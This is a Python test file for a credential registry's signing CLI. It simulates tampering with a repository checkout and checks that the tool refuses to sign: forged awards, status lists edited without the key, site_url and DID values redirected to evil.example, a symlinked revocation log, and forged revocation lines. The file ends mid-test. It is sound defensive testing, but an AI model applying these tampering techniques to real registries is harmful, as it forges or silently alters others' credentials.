"""What a hostile checkout (files anyone's merged change could have shaped) can make an issuer's own commands
sign or write: a file named by another award's hash, an award its issuer never signed, a status list edited
without the key or lost, a site_url or did changed, a credential renamed. None of it may turn into a signed
revocation of someone else, a signature in another name, or an award born revoked; and secrets never go where
another user can read them."""

from __future__ import annotations

import base64
import datetime as dt
import gzip
import json
import os
import re
import secrets
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from generator import layout
from generator._internal.times import PUBLISHED_TIME_PATTERN
from generator.awarding.issue import IssuedAward, Recipient, issue_awards
from generator.awarding.keys import SigningKey, generate_key, load_signing_key
from generator.awarding.revoke import resign_lists, revoke_award
from generator.awarding.signing import sign_document
from generator.awarding.status import read_status_list
from generator.awards import award_hash, render_award
from generator.check import run_check
from generator.endorsements import endorse, revoke_endorsement
from generator.errors import UsageError
from generator.models.endorsement import EndorsementKind
from generator.openbadges import new_recipient_key, unsigned_award
from generator.statuslist import decode_list, encode_list, get_bit, set_bit
from tests.conftest import EPOCH, ISSUED, REPO, Signer
from tests.test_endorsements import add_endorser

ISSUER = "acme-academy"


def _slot(award: IssuedAward | dict[str, Any]) -> int:
    document = award.award if isinstance(award, IssuedAward) else award
    return int(document["credentialStatus"]["statusListIndex"])


def _bits(signer: Signer) -> bytearray:
    path = layout.status_list_path(signer.root, ISSUER, 1)
    return read_status_list(path, path.name)[1]


def _unchanged(signer: Signer, before: dict[str, bytes]) -> None:
    """Nothing was signed: the revocation log and the status list are as they were."""
    log = layout.revocations_path(signer.root, ISSUER)
    status = layout.status_list_path(signer.root, ISSUER, 1)
    assert (log.read_bytes() if log.exists() else b"") == before["log"]
    assert status.read_bytes() == before["status"]


def _credreg(signer: Signer, *args: str) -> subprocess.CompletedProcess[str]:
    """The real CLI on the signer's registry."""
    env = {**os.environ, "PYTHONPATH": str(REPO)}
    return subprocess.run(
        [sys.executable, "-m", "generator", "--root", str(signer.root), *args],
        capture_output=True, text=True, env=env, check=False,
    )  # fmt: skip


def _snapshot(signer: Signer) -> dict[str, bytes]:
    log = layout.revocations_path(signer.root, ISSUER)
    status = layout.status_list_path(signer.root, ISSUER, 1)
    return {"log": log.read_bytes() if log.exists() else b"", "status": status.read_bytes()}


def _compromised(signer: Signer) -> tuple[SigningKey, str]:
    """The issuer's key revoked as of 2025-01-20 (a compromise found then), after the revocations and list
    signatures these tests make with it; a new key in force since ISSUED: (it, its private key file)."""
    new_key = signer.new_key(since=ISSUED)
    old_path = layout.key_path(signer.root, ISSUER, signer.key.key_id)
    doc = json.loads(old_path.read_text())
    doc.update(revoked_at="2025-01-20T00:00:00Z", revocation_reason="laptop stolen")
    old_path.write_text(json.dumps(doc, indent=2) + "\n")
    return new_key, str(signer.key_dir / f"{ISSUER}-{new_key.key_id}.key")


def _signed_line(signer: Signer, digest: str, index: int, when: dt.datetime, **change: Any) -> dict[str, Any]:
    """A revocation line of ``digest`` in slot (1, ``index``) with ``change`` made to it, then signed with the
    issuer's key at ``when``: what the key's holder can write, whatever it says."""
    from generator.awarding.revoke import revocation_entry
    from generator.crypto.dataintegrity import create_proof
    from generator.openbadges import timestamp

    did = signer.registry.issuer_did(ISSUER)
    entry = revocation_entry(did, digest, 1, index, "Issued in error", signer.key, when)
    del entry["proof"]
    entry.update(change)
    entry["proof"] = create_proof(
        entry, cryptosuite="eddsa-jcs-2022", seed=signer.key.seed,
        verification_method=f"{did}#{signer.key.key_id}", created=timestamp(when),
    )  # fmt: skip
    return entry


def _place_award(signer: Signer, award: dict[str, Any]) -> str:
    """Put ``award`` in the issuer's awards folder, as a change to the checkout could; its hash."""
    digest = award_hash(award)
    folder = layout.awards_dir(signer.root, ISSUER) / "2025"
    folder.mkdir(parents=True, exist_ok=True)
    (folder / f"{digest}.json").write_text(render_award(award), encoding="utf-8")
    return digest


def test_revoke_sets_the_bit_of_the_award_its_hash_names_not_of_a_file_named_by_it(
    signer: Signer, tmp_path: Path
) -> None:
    # A file in the issuer's endorsements folder named by the hash of the award the issuer revokes, holding another
    # award's slot: `credreg revoke HASH` took it for the endorsement with that hash (found by its name) and set the
    # other award's bit, signed, while saying it revoked HASH.
    victim, mine = signer.award(email="victim@example.org"), signer.award(email="ada@example.org")
    decoy = json.loads(json.dumps(victim.award))
    decoy["id"] = "urn:uuid:00000000-0000-4000-8000-000000000000"
    folder = layout.endorsements_dir(signer.root, ISSUER)
    folder.mkdir(parents=True)
    (folder / f"{mine.hash}.json").write_text(json.dumps(decoy), encoding="utf-8")
    done = _credreg(
        signer, "revoke", mine.hash, "--reason",
        "Issued in error", "--key", str(signer.key_path), "--record", str(tmp_path / "record.txt"),
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    assert "endorsement" not in done.stdout
    bits = _bits(signer)
    assert get_bit(bits, _slot(mine)), "the award the hash names is revoked"
    assert not get_bit(bits, _slot(victim)), "nobody else is"


def _revoke_refused(signer: Signer, digest: str, match: str) -> None:
    """``credreg revoke`` of ``digest`` is refused (``match``), and nothing is signed."""
    before = _snapshot(signer)
    with pytest.raises(UsageError, match=match) as info:
        revoke_award(signer.registry, digest, "Issued in error", signer.key)
    assert "nothing was signed" in info.value.explain()
    _unchanged(signer, before)


def test_revoke_refuses_an_award_its_issuer_never_signed(signer: Signer) -> None:
    # An award file with another award's slot, its proofs copied from that award (so they sign something else):
    # the issuer asked to revoke its hash re-signed the status list with the other award's bit set.
    victim = signer.award(email="victim@example.org")
    forged = json.loads(json.dumps(victim.award))
    forged["id"] = "urn:uuid:00000000-0000-4000-8000-000000000001"
    _revoke_refused(signer, _place_award(signer, forged), r"not signed by acme-academy")
    assert not get_bit(_bits(signer), _slot(victim))


def test_revoke_refuses_an_award_whose_slot_another_award_holds(signer: Signer) -> None:
    # Signed by the issuer, but in a slot another award holds (two runs drawing from one stale checkout, say):
    # setting its bit would revoke both.
    victim = signer.award(email="victim@example.org")
    registry = signer.registry
    record = registry.issuers[ISSUER]
    unsigned = unsigned_award(
        registry, record.issuer, record.credentials["sql-basics"].model,
        award_id="urn:uuid:00000000-0000-4000-8000-000000000002", recipient_email="twin@example.org",
        recipient_key=new_recipient_key(), valid_from=ISSUED, valid_until=None, evidence=[],
        status_list=1, status_index=_slot(victim),
    )  # fmt: skip
    twin = sign_document(unsigned, signer.key, f"{registry.issuer_did(ISSUER)}#{signer.key.key_id}", ISSUED)
    _revoke_refused(signer, _place_award(signer, twin), rf"index {_slot(victim)} is also held by .*{victim.hash}")


def _set_every_bit(path: Path, but: int | None = None) -> None:
    """Edit a status list as anyone without the key can: every bit set (``but`` one), the proofs left as they were."""
    doc = json.loads(path.read_text(encoding="utf-8"))
    bits = bytearray(b"\xff" * len(decode_list(doc["credentialSubject"]["encodedList"])))
    if but is not None:
        set_bit(bits, but, False)
    packed = gzip.compress(bytes(bits))
    doc["credentialSubject"]["encodedList"] = "u" + base64.urlsafe_b64encode(packed).decode().rstrip("=")
    path.write_text(json.dumps(doc, indent=2) + "\n", encoding="utf-8")


def test_revoke_never_signs_bits_its_owner_did_not_set(signer: Signer) -> None:
    # The list in the checkout was edited without the key (every bit set): `credreg revoke` read its bits, set one
    # more and signed them all, revoking every award of the issuer in the issuer's name.
    first = signer.award(email="a@example.org")
    signer.award(email="b@example.org")
    _set_every_bit(layout.status_list_path(signer.root, ISSUER, 1))
    before = _snapshot(signer)
    with pytest.raises(UsageError, match=r"status list registry/issuers/acme-academy/status/1\.json is not") as info:
        revoke_award(signer.registry, first.hash, "Issued in error", signer.key)
    assert "nothing was signed" in info.value.explain()
    _unchanged(signer, before)  # the edited list stays unsigned: the check refuses it


def test_a_revocation_left_half_done_is_completed_only_from_a_list_its_owner_signed(signer: Signer) -> None:
    # A run stopped between its log line and its list leaves the bit to set (the next `credreg revoke` sets it):
    # on the list as its owner signed it, never on one edited since (every other bit set, this one clear).
    first = signer.award(email="a@example.org")
    revoke_award(signer.registry, first.hash, "Issued in error", signer.key)
    path = layout.status_list_path(signer.root, ISSUER, 1)
    _set_every_bit(path, but=_slot(first))
    before = _snapshot(signer)
    with pytest.raises(UsageError, match=r"is not a list acme-academy signed"):
        revoke_award(signer.registry, first.hash, "Issued in error", signer.key)
    _unchanged(signer, before)


def test_an_endorser_never_signs_bits_it_did_not_set(signer: Signer, tmp_path: Path) -> None:
    # An endorser keeps no log: its list is its record. Edited without its key (every bit set), re-signed as read,
    # it revoked every endorsement the endorser ever gave.
    add_endorser(signer.root, "data-council", "Data Council")
    made = generate_key(
        signer.registry, "data-council", key_id="k1", now=EPOCH, private_path=tmp_path / "council" / "k1.key"
    )
    key = load_signing_key(made.private_path, root=signer.root)
    given = [
        endorse(signer.registry, target, "data-council", key, kind=EndorsementKind.RECOGNISES, comment="Counts.")
        for target in ("acme-academy/sql-basics", "acme-academy")
    ]
    path = signer.root / "registry/endorsers/data-council/status/1.json"
    _set_every_bit(path)
    before = path.read_bytes()
    with pytest.raises(UsageError, match=r"status/1\.json is not a list data-council signed") as info:
        revoke_endorsement(signer.registry, given[0].hash, key)
    assert "nothing was signed" in info.value.explain()
    assert path.read_bytes() == before


def _edit(path: Path, old: str, new: str) -> None:
    text = path.read_text(encoding="utf-8")
    assert old in text
    path.write_text(text.replace(old, new, 1), encoding="utf-8")


SITE = ("registry/governance.yaml", "site_url: https://registry.test.example/", "site_url: https://evil.example/")
OWN_DID = (
    "registry/issuers/acme-academy/issuer.yaml",
    "name: Acme Academy\n",
    "name: Acme Academy\ndid: did:web:evil.example\n",
)
MADE_FOR = re.escape("the key was made for the DID did:web:registry.test.example:issuers:acme-academy, but this")


@pytest.mark.parametrize("edit", [SITE, OWN_DID], ids=["site_url", "did"])
def test_a_key_signs_only_in_the_name_it_was_made_for(signer: Signer, edit: tuple[str, str, str]) -> None:
    # The checkout names the issuer's DID (its site_url, or the issuer's own did): changed there, every award,
    # status list and revocation the issuer signed named another issuer, whose DID document (and lists) another
    # site serves.
    issued = signer.award(email="a@example.org")
    _edit(signer.root / edit[0], edit[1], edit[2])
    before = sorted(p.relative_to(signer.root) for p in signer.root.rglob("*"))
    with pytest.raises(UsageError, match=MADE_FOR):
        signer.award(email="b@example.org")
    with pytest.raises(UsageError, match=MADE_FOR):
        revoke_award(signer.registry, issued.hash, "Issued in error", signer.key)
    assert sorted(p.relative_to(signer.root) for p in signer.root.rglob("*")) == before, "nothing written"


def test_a_key_of_an_issuer_with_its_own_did_signs_only_for_the_registry_it_was_made_for(signer: Signer) -> None:
    # With a DID of its own, the issuer's identity does not change with the site; its status lists' and records'
    # addresses do: signed for another site, that site's owner would say which of its awards are revoked.
    _edit(signer.root / OWN_DID[0], OWN_DID[1], OWN_DID[2])
    key = signer.new_key(key_id="key-own")
    _edit(signer.root / SITE[0], SITE[1], SITE[2])
    with pytest.raises(UsageError, match=re.escape("made for the registry site https://registry.test.example/, but")):
        signer.award(key=key)
    assert not (signer.root / "registry/issuers/acme-academy/awards").exists()


def test_an_award_never_signs_a_new_list_in_place_of_a_lost_one(signer: Signer) -> None:
    # The checkout lost a list its awards hold slots in (and its revocations): the next `credreg award` signed a
    # new, empty list of that number, which would have taken every revocation back.
    issued = signer.award(email="a@example.org")
    revoke_award(signer.registry, issued.hash, "Issued in error", signer.key)
    path = layout.status_list_path(signer.root, ISSUER, 1)
    path.unlink()
    before = sorted(p.relative_to(signer.root) for p in signer.root.rglob("*"))
    with pytest.raises(UsageError, match=r"status/1\.json is missing, though 1 of acme-academy's awards") as info:
        signer.award(email="b@example.org")
    assert "nothing was signed" in info.value.explain()
    assert sorted(p.relative_to(signer.root) for p in signer.root.rglob("*")) == before, "nothing written"


def test_a_lost_list_refused_names_the_file_that_holds_a_slot_in_it(signer: Signer) -> None:
    # An award file its issuer never signed, naming a slot of a list the registry never had (status/9.json): every
    # `credreg award` was refused, naming only the list, "missing", and saying to restore it, which nothing can.
    # The refusal names the file that holds the slot, and what to do when the registry has it.
    issued = signer.award(email="a@example.org")
    forged = json.loads(issued.path.read_text())
    forged["credentialStatus"]["statusListCredential"] = forged["credentialStatus"]["statusListCredential"].replace(
        "/1.json", "/9.json"
    )
    planted = issued.path.with_name(f"{award_hash(forged)}.json")
    planted.write_text(json.dumps(forged))
    with pytest.raises(UsageError, match=r"status/9\.json is missing") as info:
        signer.award(email="b@example.org")
    explained = info.value.explain()
    assert layout.relpath(signer.root, planted) in explained, explained
    assert "`credreg check` says whether acme-academy signed" in explained
    assert "nothing was signed" in explained


def test_an_endorsement_never_signs_a_new_list_in_place_of_a_lost_one(signer: Signer, tmp_path: Path) -> None:
    add_endorser(signer.root, "data-council", "Data Council")
    made = generate_key(signer.registry, "data-council", key_id="k1", now=EPOCH, private_path=tmp_path / "k" / "k1.key")
    key = load_signing_key(made.private_path, root=signer.root)
    first = endorse(signer.registry, "acme-academy", "data-council", key, kind=EndorsementKind.RECOGNISES, comment="x")
    revoke_endorsement(signer.registry, first.hash, key)
    (signer.root / "registry/endorsers/data-council/status/1.json").unlink()
    with pytest.raises(UsageError, match=r"status/1\.json is missing, though 1 of data-council's"):
        endorse(signer.registry, "acme-academy/sql-basics", "data-council", key, kind=EndorsementKind.RECOGNISES,
                comment="y")  # fmt: skip
    assert not (signer.root / "registry/endorsers/data-council/status/1.json").exists()


def test_award_shows_what_the_signature_covers(signer: Signer, tmp_path: Path) -> None:
    # The credential's name is the checkout's: `credreg award ISSUER/CREDENTIAL` said where the award went, not what
    # it had signed, so a name changed by a change nobody reviewed went unseen.
    definition = signer.root / "registry/issuers/acme-academy/credentials/sql-basics.yaml"
    _edit(definition, "name: SQL Basics", "name: Doctor of SQL")
    done = _credreg(
        signer, "award", "acme-academy/sql-basics",
        "--recipient", "a@example.org", "--key", str(signer.key_path), "--record", str(tmp_path / "record.txt"),
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    method = "did:web:registry.test.example:issuers:acme-academy#key-1"
    assert f'signed:  "Doctor of SQL" by Acme Academy, as {method}\n' in done.stdout


def test_revoke_keeps_every_revocation_its_log_signs_when_the_list_is_an_older_one(signer: Signer) -> None:
    # An older list, genuinely signed, put back in the checkout (a stale copy, or anyone's change): re-signed as read,
    # with one more bit, it took back every revocation made since, in the issuer's name.
    first, second = signer.award(email="a@example.org"), signer.award(email="b@example.org")
    path = layout.status_list_path(signer.root, ISSUER, 1)
    older = path.read_bytes()
    revoke_award(signer.registry, first.hash, "Issued in error", signer.key)
    path.write_bytes(older)
    revoke_award(signer.registry, second.hash, "Issued twice", signer.key)
    bits = _bits(signer)
    assert get_bit(bits, _slot(second))
    assert get_bit(bits, _slot(first)), "the earlier revocation, signed in the log, stands"


def test_an_award_never_takes_a_slot_whose_bit_is_set(signer: Signer, monkeypatch: pytest.MonkeyPatch) -> None:
    # A revoked award whose file this checkout lacks (a stale one): its slot looked free, and the next award drawn
    # there was born revoked, sharing the slot. The draw is random: it is made to try that slot first.
    revoked = signer.award(email="a@example.org")
    revoke_award(signer.registry, revoked.hash, "Issued in error", signer.key)
    next(layout.awards_dir(signer.root, ISSUER).rglob(f"{revoked.hash}.json")).unlink()
    draws = iter([_slot(revoked)])
    real = secrets.randbelow
    monkeypatch.setattr(secrets, "randbelow", lambda n: next(draws, None) or real(n))
    issued = signer.award(email="b@example.org")
    assert _slot(issued) != _slot(revoked)
    assert not get_bit(_bits(signer), _slot(issued))


def test_an_endorsement_never_takes_a_slot_whose_bit_is_set(
    signer: Signer, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    add_endorser(signer.root, "data-council", "Data Council")
    made = generate_key(signer.registry, "data-council", key_id="k1", now=EPOCH, private_path=tmp_path / "k" / "k1.key")
    key = load_signing_key(made.private_path, root=signer.root)
    first = endorse(signer.registry, "acme-academy", "data-council", key, kind=EndorsementKind.RECOGNISES, comment="x")
    revoke_endorsement(signer.registry, first.hash, key)
    first.path.unlink()  # a checkout without it
    draws = iter([_slot(first.document)])
    real = secrets.randbelow
    monkeypatch.setattr(secrets, "randbelow", lambda n: next(draws, None) or real(n))
    second = endorse(signer.registry, "acme-academy/sql-basics", "data-council", key,
                     kind=EndorsementKind.RECOGNISES, comment="y")  # fmt: skip
    assert _slot(second.document) != _slot(first.document)


@pytest.mark.skipif(os.geteuid() != 0, reason="only root can make a folder another user owns and write into it")
def test_earners_files_never_go_into_a_folder_another_user_owns(signer: Signer, tmp_path: Path) -> None:
    # An empty folder made by another user where the earners' folder is to be (a shared /tmp, say): root wrote the
    # recipients' links and keys into it, made private to its owner, the other user.
    out = tmp_path / "earners-of-another"
    out.mkdir(mode=0o777)
    os.chown(out, 65534, 65534)
    with pytest.raises(UsageError, match=r"belongs to another user \(uid 65534\)") as info:
        issue_awards(signer.registry, "acme-academy/sql-basics", [Recipient("a@example.org")], signer.key,
                     batch=False, valid_from=ISSUED, earner_dir=out)  # fmt: skip
    assert "nothing was signed" in info.value.explain()
    assert list(out.iterdir()) == []
    assert not (signer.root / "registry/issuers/acme-academy/awards").exists()


def _plant_list(signer: Signer, owner_dir: Path, number: int, source: Path) -> Path:
    """A file ``status/<number>.json`` its owner never signed (a copy of list 1, as anyone's change could add)."""
    planted = owner_dir / "status" / f"{number}.json"
    planted.write_bytes(source.read_bytes())
    return planted


def test_an_award_never_draws_its_slot_from_a_list_its_issuer_never_signed(signer: Signer) -> None:
    # Every list file's set bits count as taken, so every list file named a list: one anyone added (status/7.json,
    # list 1 copied) became the newest list, and the next award was signed into it, a slot of a list its issuer
    # never signed, which no reader trusts and `credreg revoke` refuses to sign again: an award nobody can revoke.
    signer.award(email="a@example.org")
    first = layout.status_list_path(signer.root, ISSUER, 1)
    _plant_list(signer, first.parent.parent, 7, first)
    before = sorted(p.relative_to(signer.root) for p in signer.root.rglob("*"))
    with pytest.raises(UsageError, match=r"status/7\.json is not a list acme-academy signed") as info:
        signer.award(email="b@example.org")
    assert "nothing was signed" in info.value.explain()
    assert sorted(p.relative_to(signer.root) for p in signer.root.rglob("*")) == before, "nothing written"


def test_a_revocation_is_never_appended_through_a_link_at_the_log(signer: Signer, tmp_path: Path) -> None:
    # A checkout whose revocations.jsonl is a link (a branch checked out to review it): the signed line would go to
    # the link's target, any file the user can write. The registry's load refuses the link, so credreg revoke
    # refuses before signing, and the target is untouched.
    revoked = signer.award(email="revoked@example.org")
    log = layout.revocations_path(signer.root, ISSUER)
    outside = tmp_path / "elsewhere.txt"
    outside.write_bytes(b"not the registry's\n")
    if log.exists():
        log.unlink()
    log.symlink_to(outside)
    before = _snapshot(signer)
    done = _credreg(signer, "revoke", revoked.hash, "--reason", "Issued in error", "--key", str(signer.key_path))
    assert done.returncode != 0
    assert "Traceback" not in done.stderr, done.stderr
    assert "revocations.jsonl: is a symbolic link" in done.stderr, done.stderr
    assert outside.read_bytes() == b"not the registry's\n"
    assert _snapshot(signer) == before


def test_an_award_never_draws_its_slot_from_a_list_that_ends(signer: Signer) -> None:
    # A list its issuer signed in force, but given an end (validUntil, which credreg never writes; a push past the
    # pull-request check brings one): the next award was drawn into it and signed, an award every reader reads as
    # of unknown status once the end passes, which the pull-request check then refused. Refused before signing,
    # naming the command that signs the list again without its end.
    signer.award(email="a@example.org")
    first = layout.status_list_path(signer.root, ISSUER, 1)
    _ended(first, signer.key, ISSUED + dt.timedelta(days=2))
    before = {p.relative_to(signer.root): p.read_bytes() for p in signer.root.rglob("*") if p.is_file()}
    with pytest.raises(UsageError, match=r"status/1\.json ends \(its validUntil is 2025-02-01T00:00:00Z\)") as info:
        signer.award(email="b@example.org")
    assert "credreg resign-lists" in info.value.explain()
    assert "nothing was signed" in info.value.explain()
    after = {p.relative_to(signer.root): p.read_bytes() for p in signer.root.rglob("*") if p.is_file()}
    assert after == before, "nothing written"


def test_an_endorsement_never_draws_its_slot_from_a_list_its_endorser_never_signed(
    signer: Signer, tmp_path: Path
) -> None:
    add_endorser(signer.root, "data-council", "Data Council")
    made = generate_key(signer.registry, "data-council", key_id="k1", now=EPOCH, private_path=tmp_path / "k" / "k1.key")
    key = load_signing_key(made.private_path, root=signer.root)
    endorse(signer.registry, "acme-academy", "data-council", key, kind=EndorsementKind.RECOGNISES, comment="x")
    folder = signer.root / "registry/endorsers/data-council"
    _plant_list(signer, folder, 5, folder / "status" / "1.json")
    with pytest.raises(UsageError, match=r"status/5\.json is not a list data-council signed"):
        endorse(signer.registry, "acme-academy/sql-basics", "data-council", key, kind=EndorsementKind.RECOGNISES,
                comment="y")  # fmt: skip
    assert len(list((folder / "endorsements").glob("*.json"))) == 1, "nothing signed"


def _copy_into_another_folder(root: Path, document: dict[str, Any], digest: str) -> Path:
    """``document`` copied, as it is, into the endorsements folder of another owner (an endorser, ``aaa-guild``,
    sorted first), as anyone's change could: the same bytes, so the same hash."""
    add_endorser(root, "aaa-guild", "AAA Guild")
    folder = root / "registry/endorsers/aaa-guild/endorsements"
    folder.mkdir(parents=True, exist_ok=True)
    copy = folder / f"{digest}.json"
    copy.write_text(json.dumps(document), encoding="utf-8")
    return copy


def test_revoke_of_an_award_is_not_turned_away_by_a_copy_of_it_in_an_endorsements_folder(
    signer: Signer, tmp_path: Path
) -> None:
    # `credreg revoke HASH` looks for an endorsement with that hash first, in every owner's folder: a copy of the
    # award in another folder's endorsements was taken for it, and the revocation refused ("the key belongs to
    # 'acme-academy', not to the endorser 'aaa'"): an issuer kept from revoking its own award.
    issued = signer.award(email="a@example.org")
    _copy_into_another_folder(signer.root, issued.award, issued.hash)
    done = _credreg(
        signer, "revoke", issued.hash, "--reason",
        "Issued in error", "--key", str(signer.key_path), "--record", str(tmp_path / "record.txt"),
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    assert f"revoked {issued.hash}" in done.stdout
    assert get_bit(_bits(signer), _slot(issued))


def test_revoke_of_an_endorsement_finds_it_in_its_endorsers_folder_first(signer: Signer, tmp_path: Path) -> None:
    # The endorsement copied into another owner's folder, found first: its revocation was refused as the wrong key's.
    add_endorser(signer.root, "data-council", "Data Council")
    made = generate_key(signer.registry, "data-council", key_id="k1", now=EPOCH, private_path=tmp_path / "k" / "k1.key")
    key = load_signing_key(made.private_path, root=signer.root)
    given = endorse(signer.registry, "acme-academy", "data-council", key, kind=EndorsementKind.RECOGNISES, comment="x")
    _copy_into_another_folder(signer.root, given.document, given.hash)
    done = revoke_endorsement(signer.registry, given.hash, key)
    assert done.status_list == signer.root / "registry/endorsers/data-council/status/1.json"
    assert get_bit(read_status_list(done.status_list, "1.json")[1], _slot(given.document))


def test_a_revocation_line_its_issuer_never_signed_does_not_answer_already_revoked(signer: Signer) -> None:
    # A line naming the award appended to the log without the issuer's key (signed with another): `credreg revoke`
    # answered "already revoked" and did nothing, while every reader, trusting no such line, showed the award as
    # not revoked (or of unknown status): the issuer told its revocation stood when none did.
    from generator.awarding.revoke import revocation_entry

    issued = signer.award(email="a@example.org")
    stranger = SigningKey(ISSUER, signer.key.key_id, secrets.token_bytes(32))
    forged = revocation_entry(
        signer.registry.issuer_did(ISSUER), issued.hash, 1, _slot(issued), "Withdrawn", stranger, ISSUED
    )
    log = layout.revocations_path(signer.root, ISSUER)
    log.write_text(json.dumps(forged) + "\n", encoding="utf-8")
    done = revoke_award(signer.registry, issued.hash, "Issued in error", signer.key)
    assert not done.completed
    assert done.entry["reason"] == "Issued in error"
    assert get_bit(_bits(signer), _slot(issued))
    assert len(log.read_text(encoding="utf-8").splitlines()) == 2, "the signed line appended after the forged one"


def test_revoke_is_not_kept_from_an_award_by_a_file_its_issuer_never_signed_in_its_slot(signer: Signer) -> None:
    # A copy of the award with one field changed (its proofs no longer hold) put beside it: "status list 1 index …
    # is also held by" refused the genuine revocation, though setting the bit revokes nothing anyone trusts but it.
    victim = signer.award(email="victim@example.org")
    forged = json.loads(json.dumps(victim.award))
    forged["id"] = "urn:uuid:00000000-0000-4000-8000-000000000003"
    _place_award(signer, forged)
    revoke_award(signer.registry, victim.hash, "Issued in error", signer.key)
    assert get_bit(_bits(signer), _slot(victim))


@pytest.mark.skipif(os.geteuid() != 0, reason="only root can make a folder another user owns and write into it")
def test_earners_files_never_go_into_a_folder_another_user_made_after_the_check(
    signer: Signer, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # The folder is asked whose it is when the run starts, and made when the files are written: another user who
    # made it in between (a shared /tmp) had root write the recipients' links and keys into it, theirs to read.
    from generator.awarding import earners

    out = tmp_path / "earners-later"
    real = earners.unwritable_folder

    def made_meanwhile(path: Path) -> str | None:
        why = real(path)
        out.mkdir(mode=0o777)
        os.chown(out, 65534, 65534)
        return why

    monkeypatch.setattr(earners, "unwritable_folder", made_meanwhile)
    with pytest.raises(UsageError, match=r"belongs to another user \(uid 65534\)") as info:
        issue_awards(signer.registry, "acme-academy/sql-basics", [Recipient("a@example.org")], signer.key,
                     batch=False, valid_from=ISSUED, earner_dir=out)  # fmt: skip
    assert "nothing was written to the registry" in info.value.explain()
    assert list(out.iterdir()) == []
    assert not (signer.root / "registry/issuers/acme-academy/awards").exists()


def test_an_issuer_that_revokes_a_compromised_key_as_of_an_earlier_time_signs_its_lists_again_from_its_log(
    signer: Signer, tmp_path: Path
) -> None:
    """Its key compromised, an issuer revokes it as of when the compromise began, before its status list was last
    signed. No reader trusts that list any more, and its bits may be whoever held the key's (one set here: a
    revocation of an award nobody revoked). `credreg award` and `credreg revoke` refused the list for good, and no
    command could sign it again. `credreg resign-lists` makes it again from the issuer's signed revocation log and
    signs it with the new key; `award` says to run it."""
    revoked = signer.award(email="revoked@example.org")
    innocent = signer.award(email="innocent@example.org")
    revoke_award(signer.registry, revoked.hash, "Issued in error", signer.key, now=ISSUED + dt.timedelta(days=1))
    new_key, new_file = _compromised(signer)  # before the list below
    # Whoever holds the old key sets another award's bit, and signs the list with it.
    status = layout.status_list_path(signer.root, ISSUER, 1)
    credential = json.loads(status.read_text())
    bits = bytearray(decode_list(credential["credentialSubject"]["encodedList"]))
    set_bit(bits, _slot(innocent))
    credential["credentialSubject"]["encodedList"] = encode_list(bytes(bits))
    unsigned = {k: v for k, v in credential.items() if k != "proof"}
    method = credential["proof"][0]["verificationMethod"]
    unsigned["validFrom"] = f"{ISSUED + dt.timedelta(days=10):%Y-%m-%dT%H:%M:%SZ}"  # signed at it
    status.write_text(json.dumps(sign_document(unsigned, signer.key, method, ISSUED + dt.timedelta(days=10))) + "\n")

    with pytest.raises(UsageError) as refused:
        signer.award(email="later@example.org", key=new_key)
    assert "credreg resign-lists" in refused.value.explain()
    done = _credreg(
        signer, "resign-lists",
        "--key", new_file, "--record", str(tmp_path / "record.txt"),
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    assert "status/1.json: made again from the revocation log, signed with key-2" in done.stdout
    fresh = _bits(signer)
    assert get_bit(fresh, _slot(revoked)), "the logged revocation stands"
    assert not get_bit(fresh, _slot(innocent)), "the bit only the old key's holder set is gone"
    assert json.loads(status.read_text())["proof"][0]["verificationMethod"].endswith(f"#{new_key.key_id}")
    later = signer.award(email="later@example.org", key=new_key)
    revoke_award(signer.registry, later.hash, "Issued in error", new_key)
    assert get_bit(_bits(signer), _slot(later))
    assert [str(p) for p in run_check(signer.root).problems.errors] == []


def test_resign_lists_names_each_revocation_it_no_longer_counts_so_the_issuer_makes_its_own_again(
    signer: Signer, tmp_path: Path
) -> None:
    """The issuer itself revoked an award with its key after the time it later gives as that key's end (it did not
    know yet): no reader trusts that line, so the list made again drops its bit, rightly (the key's thief could
    have written it). `credreg resign-lists` said only "made again from the revocation log": the issuer never
    learnt that its own revocation was taken back. Each line not counted is named, with the command that makes
    the revocation again, and that command does."""
    early = signer.award(email="early@example.org")
    late = signer.award(email="late@example.org")
    revoke_award(signer.registry, early.hash, "Issued in error", signer.key, now=ISSUED + dt.timedelta(days=1))
    revoke_award(signer.registry, late.hash, "Issued in error", signer.key, now=ISSUED + dt.timedelta(days=10))
    new_key, new_file = _compromised(signer)  # between the revocations

    done = _credreg(
        signer, "resign-lists",
        "--key", new_file,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    told = done.stdout + done.stderr
    assert get_bit(_bits(signer), _slot(early))
    assert not get_bit(_bits(signer), _slot(late))
    assert f"revocations.jsonl:2 ({late.hash})" in told, told
    assert f"credreg revoke {late.hash}" in told, told
    assert early.hash not in told, told
    revoke_award(signer.registry, late.hash, "Issued in error", new_key)
    assert get_bit(_bits(signer), _slot(late)), "the revocation made again stands"


def test_an_endorser_whose_list_was_signed_after_its_keys_end_is_told_what_works(
    signer: Signer, tmp_path: Path
) -> None:
    """An endorser revokes its compromised key as of an earlier time than its list's last signature: no reader
    trusts that list, and it keeps no revocation log to make it again from. The refusal said to restore the last
    version signed before the key's end and then run `credreg resign-lists`, which refuses every endorser: the
    version restored is trusted as it is, and what was revoked since is revoked again, by `credreg revoke`."""
    add_endorser(signer.root, "data-council", "Data Council")
    made = generate_key(signer.registry, "data-council", key_id="k1", now=EPOCH, private_path=tmp_path / "k" / "k1.key")
    old = load_signing_key(made.private_path, root=signer.root)
    first = endorse(signer.registry, "acme-academy", "data-council", old, kind=EndorsementKind.RECOGNISES,
                    comment="x", now=ISSUED + dt.timedelta(days=10))  # fmt: skip
    doc = json.loads(made.public_path.read_text())
    doc.update(revoked_at="2025-01-20T00:00:00Z", revocation_reason="laptop stolen")  # before the list's signature
    made.public_path.write_text(json.dumps(doc, indent=2) + "\n")
    fresh = generate_key(
        signer.registry, "data-council", key_id="k2", now=ISSUED, private_path=tmp_path / "k" / "k2.key"
    )
    new = load_signing_key(fresh.private_path, root=signer.root)

    with pytest.raises(UsageError) as refused:
        revoke_endorsement(signer.registry, first.hash, new)
    told = refused.value.explain()
    assert "keeps no revocation log" in told, told
    assert "resign-lists" not in told, told
    assert "git log -p" in told, told
    with pytest.raises(UsageError) as also:
        resign_lists(signer.registry, "data-council", new)
